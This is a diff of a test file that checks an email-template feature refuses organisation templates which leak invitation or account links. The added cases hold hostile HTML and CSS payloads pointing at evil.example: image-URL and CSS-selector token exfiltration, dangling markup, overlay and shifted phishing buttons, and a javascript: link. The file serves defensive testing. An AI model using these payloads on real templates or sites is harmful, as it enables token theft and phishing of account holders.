@@ -153,15 +153,26 @@ describe('account links cannot leave through an organisation’s template (findi
     ['the invitation link inside an image address', 'INVITATION', '<img src="https://evil.example/c?{{acceptUrl}}">'],
     ['a style sheet that reads the link', 'ACCOUNT_CREATED', '<style>a[href*="token=A"]{background:url(https://evil.example/A)}</style>'],
     ['a decorator', 'ACCOUNT_CREATED', '{{* decorator}}'],
+    ['markup left open to swallow what follows', 'ACCOUNT_CREATED', '<p>Welcome</p><img src="https://evil.example/c?x='],
+    [
+      'a look-alike button laid over Tessera’s',
+      'INVITATION',
+      '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background-color:#fff;z-index:9999"><a href="https://evil.example/accept">Accept the invitation</a></div>',
+    ],
+    [
+      'a box shifted up over Tessera’s',
+      'INVITATION',
+      '<div style="margin-top:-400px"><a href="https://evil.example/accept">Accept</a></div>',
+    ],
+    ['a script link', 'INVITATION', '<a href="javascript:alert(1)">Accept</a>'],
   ])('refuses %s when saved', async (_, kind, html) => {
     const error = await save(kind, html);
     expect(error.code).toBe('BAD_USER_INPUT');
     expect(error.extensions?.fields).toEqual(expect.arrayContaining([expect.objectContaining({ field: 'html' })]));
   });
 
-  it('puts the set-password link above a hostile template that leaves an image address open, and nowhere else', async () => {
-    // Allowed tags only, but the attribute is left open to swallow whatever follows it.
-    const html = '<p>Welcome {{recipient.firstName}}</p><img src="https://evil.example/c?x=';
+  it('puts the set-password link above the organisation’s text (with its own images), and nowhere else', async () => {
+    const html = '<p>Welcome {{recipient.firstName}}</p><img src="https://evil.example/c.png" alt="">';
     await admin.client.ok(UPDATE, {
       input: {
         organizationId: organization.id,
